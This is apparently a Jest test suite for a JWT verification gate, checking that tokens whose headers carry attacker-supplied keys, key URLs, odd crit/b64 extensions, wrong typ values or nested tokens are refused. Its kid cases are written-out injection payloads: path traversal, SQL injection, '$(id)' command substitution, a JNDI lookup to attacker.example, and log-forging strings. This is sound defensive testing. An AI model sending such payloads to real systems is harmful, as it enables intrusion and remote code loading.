/** What may a token's own header ask for? Nothing but one of the issuer's keys: RFC 8725 sections 3.8 to 3.11, RFC 7515 section 4.1. */
import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { PLATFORMS } from '../support/app.js';
import { Attacker } from '../support/attacker.js';
import { openGate, type HostileToken } from '../support/gate.js';
import { Issuer } from '../support/issuer.js';
import { seal } from '../support/spoil.js';
import { encode, makeKey, signatureOf } from '../support/tokens.js';

const EC = makeKey('ES256', 'ec');
const RSA = makeKey('RS256', 'rsa');
const OTHER = makeKey('ES256', 'other');

const issuer = await Issuer.start({}, EC);
issuer.server.keys.push(RSA.jwk, OTHER.jwk);
const attacker = await Attacker.start();
afterAll(() => Promise.all([issuer.close(), attacker.close()]));
afterEach(() => expect(attacker.server.requests).toEqual([]));

type Members = Readonly<Record<string, unknown>>;

/** Where an attacker may put a key, or say where one is. */
const BROUGHT_ALONG: readonly (readonly [name: string, members: Members])[] = [
  ['jwk', { jwk: attacker.key.publicKey.export({ format: 'jwk' }) }],
  ['jwk with a private part', { jwk: attacker.key.privateKey.export({ format: 'jwk' }) }],
  ['jku', { jku: attacker.jwksUri }],
  ['x5u', { x5u: `${attacker.server.origin}/certificate.pem` }],
  ['x5c', { x5c: [attacker.certificate.toString('base64')] }],
  [
    'jwk, jku, x5u and x5c',
    {
      jwk: attacker.key.jwk,
      jku: attacker.jwksUri,
      x5u: `${attacker.server.origin}/certificate.pem`,
      x5c: [attacker.certificate.toString('base64')],
    },
  ],
];

const EMBEDDED: readonly HostileToken[] = BROUGHT_ALONG.flatMap(([name, members]) => [
  {
    name: `an attacker's key in ${name}, under the issuer's kid`,
    token: () => issuer.token({ header: members }, { ...attacker.key, kid: EC.kid }),
    reason: 'the signature does not verify',
  },
  {
    name: `an attacker's key in ${name}, under its own kid`,
    token: () => issuer.token({ header: members }, attacker.key),
    reason: `no key of the issuer matches: kid "attacker"`,
    mayRefetch: true as const,
  },
  {
    name: `an attacker's key in ${name}, without kid`,
    token: () => issuer.token({ header: { ...members, kid: undefined } }, attacker.key),
    reason: 'no key of the issuer matches: kid undefined',
    mayRefetch: true as const,
  },
]);

/** Names that mean something to a file system, a database, a server or a language, and that no key has. */
const INVENTED = [
  '../../../../../../dev/null',
  '/dev/null',
  'file:///proc/self/environ',
  "' OR '1'='1",
  "ec' UNION SELECT 'k' --",
  '$(id)',
  '${jndi:ldap://attacker.example/a}',
  `${attacker.server.origin}/jwks`,
  '__proto__',
  'constructor',
  'toString',
  'ec ',
  'EC',
  'ec\u0000',
  '',
  '*',
  'k'.repeat(5000),
  'forged\nGuardedController.read: 200 fine: nothing to see AuthGuard',
  '\u001b[2Kcleared \u009b31mred \u2028new line',
];

const MISTYPED: readonly (readonly [name: string, kid: unknown])[] = [
  ['null', null],
  ['a number', 0],
  ['true', true],
  ['a list', ['ec']],
  ['an object', { toString: 'ec' }],
];

const KIDS: readonly HostileToken[] = [
  ...INVENTED.map((kid) => ({
    name: `kid ${JSON.stringify(kid.slice(0, 40))}`,
    token: () => issuer.token({ header: { kid } }),
    reason: `no key of the issuer matches: kid ${JSON.stringify(kid).slice(0, 4)}`,
    mayRefetch: true as const,
  })),
  ...MISTYPED.map(([name, kid]) => ({
    name: `kid ${name}`,
    token: () => issuer.token({ header: { kid } }),
    reason: 'kid is not a string',
  })),
  {
    name: "kid of another of the issuer's keys",
    token: () => issuer.token({ header: { kid: OTHER.kid } }),
    reason: 'the signature does not verify',
  },
  {
    name: "kid of one of the issuer's keys of another type",
    token: () => issuer.token({ header: { kid: RSA.kid } }),
    reason: `no key of the issuer matches: kid "rsa"`,
  },
];

const EXTENSIONS: readonly (readonly [name: string, members: Members])[] = [
  ['crit that is not known', { crit: ['https://attacker.example/x'], 'https://attacker.example/x': true }],
  ['crit with a claim that is known', { crit: ['exp'], exp: 1 }],
  ['crit with a parameter that the specification itself has', { crit: ['alg'] }],
  ['crit with a parameter that is not there', { crit: ['b64'] }],
  ['crit with b64: true', { crit: ['b64'], b64: true }],
  ['crit empty (RFC 7515 section 4.1.11)', { crit: [] }],
  ['crit null', { crit: null }],
  ['crit a string', { crit: 'b64' }],
  ['crit an object', { crit: { b64: true } }],
  ['b64: false that is not critical (RFC 7797 section 6)', { b64: false }],
  ['b64: true that is not critical', { b64: true }],
];

const CRITICAL: readonly HostileToken[] = [
  ...EXTENSIONS.map(([name, header]) => ({
    name,
    token: () => issuer.token({ header }),
    reason: 'the header requires an extension (crit, b64)',
  })),
  {
    name: 'b64: false, with a signature over the payload as it is (RFC 7797 section 3)',
    token: () => {
      const header = encode({ alg: 'ES256', kid: EC.kid, b64: false, crit: ['b64'] });
      const payload = JSON.stringify(issuer.claims());
      return `${header}.${encode(payload)}.${signatureOf(EC, `${header}.${payload}`).toString('base64url')}`;
    },
    reason: 'the header requires an extension (crit, b64)',
  },
];

const OTHER_TYPES = [
  'dpop+jwt',
  'application/dpop+jwt',
  'logout+jwt',
  'secevent+jwt',
  'token-introspection+jwt',
  'oauth-authz-req+jwt',
  'rt+jwt',
  'id_token',
  'JOSE',
  'JWE',
  'at',
  'application/at',
  'at+jwt ',
  'at+jwt;v=1',
  '',
  null,
  0,
  true,
  ['at+jwt'],
  { typ: 'at+jwt' },
];

const TYPES: readonly HostileToken[] = [
  ...OTHER_TYPES.map((typ) => ({
    name: `typ ${JSON.stringify(typ)}`,
    token: () => issuer.token({ header: { typ } }),
    reason: `typ ${JSON.stringify(typ)} is not that of an access token`,
  })),
  ...['nonce', 'at_hash', 'c_hash', 's_hash'].flatMap((claim) =>
    [undefined, 'JWT'].map((typ) => ({
      name: `an ID token: ${claim}, typ ${String(typ)}`,
      token: () => issuer.token({ header: { typ }, claims: { [claim]: 'n-0S6_WzA2Mj' } }),
      reason: `${claim} makes it an ID token`,
    })),
  ),
];

const NESTED: readonly HostileToken[] = [
  {
    name: 'a JWT within a JWT (RFC 7519 section 5.2)',
    token: () => issuer.token({ header: { cty: 'JWT' }, payloadText: issuer.token() }),
    reason: 'the payload is not JSON',
  },
  {
    name: 'a JWT within a JSON string within a JWT',
    token: () => issuer.token({ header: { cty: 'JWT' }, payloadText: JSON.stringify(issuer.token()) }),
    reason: 'the payload is not an object',
  },
  {
    name: 'the header of another good token, and a signature by its key over both',
    token: () => seal(EC, encode({ alg: 'RS256', kid: RSA.kid }), encode(issuer.claims())),
    reason: 'the signature does not verify',
  },
];

describe.each(PLATFORMS)('%s', (platform) => {
  const gate = openGate(platform, issuer);

  it.each([...EMBEDDED, ...KIDS, ...CRITICAL, ...TYPES, ...NESTED])('refuses: $name', gate.refuses);

  it.each(BROUGHT_ALONG)('does not look at %s in a token that is good without', async (_, header) => {
    const answer = await gate.present(issuer.token({ header }));
    expect(answer).toMatchObject({ status: 200, body: { sub: 'user-1' } });
  });

  it('looks at typ alone where it says access token', async () => {
    const answer = await gate.present(issuer.token({ claims: { nonce: 'n-0S6_WzA2Mj' } }));
    expect(answer).toMatchObject({ status: 200, body: { sub: 'user-1' } });
  });
});
